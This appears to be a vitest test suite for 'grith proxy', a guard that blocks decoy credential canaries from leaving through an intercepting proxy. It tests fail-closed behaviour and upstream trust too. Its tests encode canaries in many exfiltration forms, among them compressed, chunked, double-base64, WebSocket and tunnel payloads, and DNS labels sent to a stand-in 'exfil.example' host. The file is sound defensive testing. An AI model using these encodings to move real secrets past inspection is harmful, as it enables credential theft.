// Every way a canary can be sent through grith proxy is refused, and the upstream never receives a whole one.
import { createHash } from 'node:crypto';
import type { Duplex } from 'node:stream';
import type { IncomingMessage } from 'node:http';
import { brotliCompressSync, constants, deflateSync, gzipSync, brotliDecompressSync, gunzipSync, inflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StoreCorruptError } from '../../../src/core/errors.js';
import { makeCanary } from '../../support/canaries.js';
import { TestGuardContext } from '../../support/guard-context.js';
import { chunked, connectTunnel, exchange, pieces, rawHttps, request, unmaskFrames, until, wsFrame } from '../../support/proxy-client.js';
import {
  httpsUpstream,
  httpUpstream,
  leakedForms,
  startProxy,
  tcpRecorder,
  upstreamCa,
  type TestProxy,
  type Upstream,
} from '../../support/proxy-harness.js';
import type { CertificateAuthority } from '../../../src/guards/proxy/tls-ca.js';

const canary = makeCanary({ id: 'c1' });
const others = Array.from({ length: 99 }, (_, i) => makeCanary({ id: `o${i}` }));
const ctx = new TestGuardContext([canary, ...others]);
const value = Buffer.from(canary.value);
let upCa: CertificateAuthority;
let up: Upstream;
let px: TestProxy;
let caPem: string;

beforeAll(async () => {
  upCa = await upstreamCa();
  up = await httpsUpstream(upCa);
  px = await startProxy(ctx, upCa);
  caPem = px.ca.certPem;
});
afterAll(async () => {
  await px?.close();
  await up?.close();
});

const filler = (n: number): Buffer => Buffer.from('lorem ipsum dolor sit amet '.repeat(n));
const auth = (): string => `127.0.0.1:${up.port}`;

function firedSince(n: number): typeof ctx.events {
  return ctx.events.slice(n).filter((e) => e.kind === 'canary.fired');
}

async function expectDenied(writes: (Buffer | string)[], opts: { delayMs?: number; upstream?: Upstream } = {}): Promise<void> {
  const target = opts.upstream ?? up;
  const n = ctx.events.length;
  const r = await rawHttps(px.proxy.port, caPem, `127.0.0.1:${target.port}`, writes, opts);
  expect(r.status === 403 || r.reset).toBe(true);
  if (r.status === 403) expect(r.response).toMatch(/grith blocked this request: it carries the credential canary "[^"]+", a decoy planted by grith to catch exfiltration \(event #\d+\)/);
  expect(r.response).not.toContain(canary.value);
  const fired = firedSince(n);
  expect(fired.length).toBeGreaterThan(0);
  expect(fired[0]).toMatchObject({ guard: 'proxy', action: 'deny', canaryId: 'c1', fingerprint: expect.any(String) });
  expect(leakedForms(target.received(), canary)).toEqual([]);
}

describe('grith proxy refuses canaries', () => {
  it('lets a clean request through (control)', async () => {
    const body = filler(100);
    const r = await rawHttps(px.proxy.port, caPem, auth(), [request('POST', '/ok', { Host: auth(), 'Content-Length': String(body.length) }, body)]);
    expect(r.status).toBe(200);
    expect(r.response).toContain(createHash('sha256').update(body).digest('hex'));
  });

  it('in the URL, percent-encoded', async () => {
    const enc = [...canary.value].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('');
    await expectDenied([request('GET', `/q?x=${enc}`, { Host: auth() })]);
  });

  it('in a header, base64 inside Basic auth', async () => {
    const b = Buffer.from(`user:${canary.value}`).toString('base64');
    await expectDenied([request('GET', '/h', { Host: auth(), Authorization: `Basic ${b}` })]);
  });

  it('in a cookie', async () => {
    await expectDenied([request('GET', '/c', { Host: auth(), Cookie: `a=1; s=${canary.value}; b=2` })]);
  });

  it('in a body sent whole', async () => {
    const body = Buffer.concat([filler(50), value, filler(50)]);
    await expectDenied([request('POST', '/b', { Host: auth(), 'Content-Length': String(body.length) }, body)]);
  });

  it('in a chunked body, split across two chunks', async () => {
    const head = request('POST', '/chunked', { Host: auth(), 'Transfer-Encoding': 'chunked' });
    const a = Buffer.concat([filler(20), value.subarray(0, 17)]);
    const b = Buffer.concat([value.subarray(17), filler(20)]);
    const body = chunked([a, b]);
    const cut = head.length + a.length + 8;
    const all = Buffer.concat([head, body]);
    await expectDenied([all.subarray(0, cut), all.subarray(cut)], { delayMs: 30 });
  });

  it('in a body written one byte at a time', async () => {
    const body = Buffer.concat([filler(2), value, filler(2)]);
    const head = request('POST', '/slow', { Host: auth(), 'Content-Length': String(body.length) });
    await expectDenied([head, ...pieces(body, 1)], { delayMs: 2 });
  });

  const partial = { finishFlush: constants.Z_SYNC_FLUSH };
  const codecs = [
    ['gzip', gzipSync, (b: Buffer) => gunzipSync(b, partial)],
    ['deflate', deflateSync, (b: Buffer) => inflateSync(b, partial)],
    ['br', brotliCompressSync, (b: Buffer) => brotliDecompressSync(b, { finishFlush: constants.BROTLI_OPERATION_FLUSH })],
  ] as const;
  for (const [name, enc, dec] of codecs) {
    for (const step of [0, 7]) {
      it(`in a ${name} body${step ? ` sent ${step} bytes per write` : ''}; what arrived does not decode to it`, async () => {
        const fresh = await httpsUpstream(upCa);
        try {
          const body = enc(Buffer.concat([filler(400), value, filler(400)]));
          const head = request('POST', '/z', { Host: `127.0.0.1:${fresh.port}`, 'Content-Encoding': name, 'Content-Length': String(body.length) });
          await expectDenied([head, ...(step ? pieces(body, step) : [body])], { upstream: fresh, delayMs: step ? 1 : 0 });
          const got = fresh.received();
          const at = got.indexOf('\r\n\r\n');
          if (at >= 0 && got.length > at + 4) {
            let decoded: Buffer = Buffer.alloc(0);
            try {
              decoded = dec(got.subarray(at + 4));
            } catch {
              /* an undecodable prefix holds nothing */
            }
            expect(decoded.includes(value)).toBe(false);
          }
        } finally {
          await fresh.close();
        }
      });
    }
  }

  it('in a multipart upload, as a base64 part wrapped at 76 columns', async () => {
    const b64 = Buffer.concat([filler(3), value, filler(3)]).toString('base64').replace(/.{76}/g, '$&\r\n');
    const body = Buffer.from(
      `--XyZ\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name="f"; filename="a.bin"\r\n` +
        `Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}\r\n--XyZ--\r\n`,
    );
    await expectDenied([
      request('POST', '/upload', { Host: auth(), 'Content-Type': 'multipart/form-data; boundary=XyZ', 'Content-Length': String(body.length) }, body),
    ]);
  });

  it('in a body, double base64', async () => {
    const body = Buffer.from(`data=${Buffer.from(Buffer.from(canary.value).toString('base64')).toString('base64')}`);
    await expectDenied([request('POST', '/b64', { Host: auth(), 'Content-Length': String(body.length) }, body)]);
  });

  it('in WebSocket frames (a fragmented message): the connection is reset', async () => {
    let payloads: Buffer = Buffer.alloc(0);
    const ws = await httpsUpstream(upCa, undefined, (req: IncomingMessage, socket: Duplex, head: Buffer) => {
      const key = String(req.headers['sec-websocket-key']);
      const accept = createHash('sha1').update(key + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64');
      expect(req.headers['sec-websocket-extensions']).toBeUndefined();
      socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
      let raw: Buffer = Buffer.from(head);
      socket.on('data', (d: Buffer) => {
        raw = Buffer.concat([raw, d]);
        payloads = unmaskFrames(raw);
      });
      socket.on('error', () => undefined);
    });
    try {
      const a = `127.0.0.1:${ws.port}`;
      const upgrade = request('GET', '/ws', {
        Host: a,
        Upgrade: 'websocket',
        Connection: 'Upgrade',
        'Sec-WebSocket-Key': 'dGhlIHNhbXBsZSBub25jZQ==',
        'Sec-WebSocket-Version': '13',
        'Sec-WebSocket-Extensions': 'permessage-deflate',
      });
      const n = ctx.events.length;
      const r = await rawHttps(px.proxy.port, caPem, a, [
        upgrade,
        wsFrame(Buffer.from('{"hello":"world"}')),
        wsFrame(Buffer.concat([Buffer.from('{"k":"'), value.subarray(0, 20)]), 1, false),
        wsFrame(Buffer.concat([value.subarray(20), Buffer.from('"}')]), 0, true),
      ], { delayMs: 40, waitHead: true, before: (i) => (i === 2 ? until(() => payloads.includes('{"hello":"world"}')) : Promise.resolve()) });
      expect(r.response).toContain('101 Switching Protocols');
      expect(r.reset).toBe(true);
      expect(payloads.toString()).toContain('{"hello":"world"}'); // the clean frame went through (idle release)
      expect(payloads.includes(value)).toBe(false);
      expect(leakedForms(payloads, canary)).toEqual([]);
      expect(firedSince(n)[0]).toMatchObject({ canaryId: 'c1', detail: expect.objectContaining({ transport: 'websocket' }) });
    } finally {
      await ws.close();
    }
  });

  it('in a raw (non-TLS, non-HTTP) CONNECT tunnel, split across writes: the tunnel is reset', async () => {
    const tcp = await tcpRecorder();
    try {
      const n = ctx.events.length;
      const t = await connectTunnel(px.proxy.port, `127.0.0.1:${tcp.port}`);
      expect(t.status).toBe(200);
      t.socket.resume();
      const r = await exchange(
        t.socket,
        [Buffer.from('\x00\x01HELO binary protocol\n'), Buffer.concat([Buffer.from('AUTH '), value.subarray(0, 12)]), value.subarray(12)],
        40,
        true,
        (i) => (i === 1 ? until(() => tcp.received().includes('HELO binary protocol\n')) : Promise.resolve()),
      );
      expect(r.reset).toBe(true);
      expect(tcp.received().toString()).toContain('HELO binary protocol'); // released while the client waited
      expect(leakedForms(tcp.received(), canary)).toEqual([]);
      expect(firedSince(n)[0]).toMatchObject({ canaryId: 'c1', detail: expect.objectContaining({ transport: 'tunnel' }) });
    } finally {
      await tcp.close();
    }
  });

  it('in the host name, cut into DNS labels', async () => {
    const labels = canary.value.match(/.{1,12}/g)!.join('.');
    const n = ctx.events.length;
    const t = await connectTunnel(px.proxy.port, `${labels}.exfil.example:443`);
    expect(t.status).toBe(403);
    t.socket.destroy();
    const fired = firedSince(n);
    expect(fired[0]).toMatchObject({ canaryId: 'c1' });
    expect(fired[0].where).not.toContain(labels);
    expect(JSON.stringify(fired)).not.toContain(canary.value.slice(4, 20));
  });

  it('in a plain-HTTP absolute-form request (no TLS)', async () => {
    const plain = await httpUpstream();
    try {
      const n = ctx.events.length;
      const net = await import('node:net');
      const s = net.connect(px.proxy.port, '127.0.0.1');
      await new Promise((r) => s.once('connect', r));
      const body = Buffer.concat([filler(5), value]);
      const r = await exchange(s, [request('POST', `http://127.0.0.1:${plain.port}/p`, { Host: `127.0.0.1:${plain.port}`, 'Content-Length': String(body.length) }, body)], 0);
      expect(r.status).toBe(403);
      expect(firedSince(n).length).toBeGreaterThan(0);
      expect(leakedForms(plain.received(), canary)).toEqual([]);
    } finally {
      await plain.close();
    }
  });

  it('after the response has started: both connections are reset', async () => {
    const early = await httpsUpstream(upCa, () => undefined);
    // Answer as soon as the head arrives, before reading the body.
    const n = ctx.events.length;
    try {
      const body = Buffer.concat([filler(10), value]);
      const head = request('POST', '/early', { Host: `127.0.0.1:${early.port}`, 'Content-Length': String(body.length) });
      const r = await rawHttps(px.proxy.port, caPem, `127.0.0.1:${early.port}`, [head, body.subarray(0, 40), body.subarray(40)], { delayMs: 150 });
      expect(r.reset || r.status === 403).toBe(true);
      expect(firedSince(n).length).toBeGreaterThan(0);
      expect(leakedForms(early.received(), canary)).toEqual([]);
    } finally {
      await early.close();
    }
  });

  it('events name the canary and mask the token in the path', async () => {
    const n = ctx.events.length;
    await rawHttps(px.proxy.port, caPem, auth(), [request('GET', `/api/${canary.value}/x`, { Host: auth() })]);
    const e = firedSince(n)[0];
    expect(e).toMatchObject({ kind: 'canary.fired', guard: 'proxy', action: 'deny', canaryId: 'c1', label: 'label-c1', where: auth(), variant: expect.any(String) });
    expect(e.detail).toMatchObject({ method: 'GET' });
    expect(String(e.detail?.path)).toMatch(/^\/api\/.*\/x$/);
    expect(JSON.stringify(e)).not.toContain(canary.value);
  });
});

describe('grith proxy follows the store and fails closed', () => {
  it('a canary added while running is blocked on the next request', async () => {
    const late = makeCanary({ id: 'late' });
    const req = (): Promise<{ status: number }> =>
      rawHttps(px.proxy.port, caPem, auth(), [request('GET', `/x?t=${late.value}`, { Host: auth() })]);
    expect((await req()).status).toBe(200);
    ctx.set([canary, ...others, late]);
    try {
      expect((await req()).status).toBe(403);
    } finally {
      ctx.set([canary, ...others]);
    }
  });

  it('an unreadable store means 503 for every request and CONNECT, with a guard.error event', async () => {
    ctx.fail(new StoreCorruptError('/x/store.json', 'bad JSON'));
    try {
      const n = ctx.events.length;
      const r = await rawHttps(px.proxy.port, caPem, auth(), [request('GET', '/', { Host: auth() })]);
      expect(r.status).toBe(503);
      const errs = ctx.events.slice(n).filter((e) => e.kind === 'guard.error');
      expect(errs.length).toBeGreaterThan(0);
      expect(errs[0]).toMatchObject({ guard: 'proxy', action: 'deny' });
      expect(r.response).toContain('canary store unavailable');
    } finally {
      ctx.set([canary, ...others]);
    }
    const ok = await rawHttps(px.proxy.port, caPem, auth(), [request('GET', '/', { Host: auth() })]);
    expect(ok.status).toBe(200);
  });
});

describe('grith proxy upstream trust and access', () => {
  it('a bad upstream certificate is an error to the client, never accepted', async () => {
    const strict = await startProxy(ctx, upCa, {});
    // A proxy that does not know the upstream's CA.
    const { ProxyServer } = await import('../../../src/guards/proxy/proxy-server.js');
    const { upstreamTrust } = await import('../../../src/guards/proxy/upstream-trust.js');
    const noTrust = await ProxyServer.start({ ctx, ca: strict.ca, trust: await upstreamTrust() });
    try {
      const n = ctx.events.length;
      const r = await rawHttps(noTrust.port, strict.ca.certPem, auth(), [request('GET', '/', { Host: auth() })]);
      expect(r.status).toBe(502);
      expect(r.response).toMatch(/upstream certificate of 127\.0\.0\.1:\d+ rejected/);
      // Regression: the client got a bare 502 and the log nothing; now the flag that trusts a private CA is named.
      expect(r.response).toContain('trust it with grith proxy --upstream-ca FILE');
      expect(ctx.events.slice(n)).toEqual([
        expect.objectContaining({ kind: 'guard.error', guard: 'proxy', action: 'deny', message: expect.stringMatching(/upstream certificate rejected .*--upstream-ca FILE/) }),
      ]);
    } finally {
      await noTrust.close();
      await strict.close();
    }
  });

  it('with a session credential, requests without it get 407', async () => {
    const locked = await startProxy(ctx, upCa, { token: 'sesame' });
    try {
      expect(locked.url).toBe(`http://grith:sesame@127.0.0.1:${locked.proxy.port}`);
      const t = await connectTunnel(locked.proxy.port, auth());
      expect(t.status).toBe(407);
      t.socket.destroy();
      const ok = await connectTunnel(locked.proxy.port, auth(), `Basic ${Buffer.from('grith:sesame').toString('base64')}`);
      expect(ok.status).toBe(200);
      ok.socket.destroy();
    } finally {
      await locked.close();
    }
  });
});
